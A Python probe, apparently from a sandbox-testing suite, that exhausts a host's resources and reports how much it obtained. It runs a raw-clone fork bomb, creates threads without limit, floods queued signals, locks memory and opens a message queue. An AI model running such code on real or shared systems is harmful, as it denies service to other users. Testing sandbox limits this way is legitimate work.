"""Starts processes, or threads, that start more, until nothing more starts."""

from __future__ import annotations

import ctypes
import mmap
import os
import signal
import threading
import time

from attacks.bots.attempt import PLAN, attempt, play, say
from attacks.bots.kernel import LIBC, SIGCHLD, call


def fork_on(told: int) -> None:
    """Fork in the child and in the parent, all of them, as long as anything starts."""
    first = os.getpid()
    for _ in range(PLAN["most"]):
        try:
            # Not by the library, which would first make gRPC's threads hold still.
            if call("clone", SIGCHLD, 0, 0, 0, 0) == 0:
                os.write(told, b".")
        except OSError:
            if os.getpid() == first:
                return
    time.sleep(600)


def forks() -> None:
    reading, writing = os.pipe()
    os.set_blocking(reading, False)
    fork_on(writing)
    time.sleep(0.2)  # that the children go on
    say("processes", str(len(os.read(reading, 1 << 20))))
    os._exit(3)  # it has nothing left to play with


def threads() -> None:
    started = 0
    try:
        for _ in range(PLAN["most"]):
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
            started += 1
    except RuntimeError:
        pass
    say("threads", str(started))


def counted() -> None:
    """What the kernel counts by user: signals that wait, memory that stays, queues."""
    number = signal.SIGRTMIN
    signal.pthread_sigmask(signal.SIG_BLOCK, {number})
    sent = 0
    while sent < PLAN["most"] and LIBC.sigqueue(os.getpid(), number, None) == 0:
        sent += 1
    say("signals", str(sent))
    page, locked = mmap.mmap(-1, PLAN["most"]), 0
    place = ctypes.addressof(ctypes.c_char.from_buffer(page))
    while locked < PLAN["most"] and not LIBC.mlock(ctypes.c_void_p(place + locked), 4096):
        locked += 4096
    say("locked", str(locked))
    mode = os.O_CREAT | os.O_RDWR
    attempt("queue", lambda: call("mq_open", b"queue", mode, 0o600, None))


if __name__ == "__main__":
    if PLAN["way"] == "counted":
        counted()  # while no other thread could get the signals
        play()
    play({"processes": forks, "threads": threads}[PLAN["way"]])
